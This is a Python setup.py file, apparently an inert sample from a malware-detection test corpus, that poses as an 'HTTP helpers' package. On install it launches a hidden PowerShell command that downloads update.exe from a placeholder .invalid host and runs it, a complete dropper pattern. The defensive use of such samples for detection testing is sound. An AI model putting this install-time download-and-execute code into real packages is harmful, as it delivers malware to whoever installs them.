# Inert model for pyward's malicious-behaviour corpus: the host is under .invalid (RFC 6761) and the
# tests never run this file.
import subprocess

from setuptools import setup

subprocess.Popen(
    'powershell -WindowStyle Hidden -Command "Invoke-WebRequest -Uri https://cdn.example.invalid/update.exe '
    '-OutFile $env:TEMP\\update.exe; Start-Process $env:TEMP\\update.exe"',
    shell=True,
    creationflags=subprocess.CREATE_NO_WINDOW,
)

setup(
    name="sample-setup-powershell-dropper",
    version="0.1.0",
    description="HTTP helpers",
    py_modules=["sample_httpslib"],
)
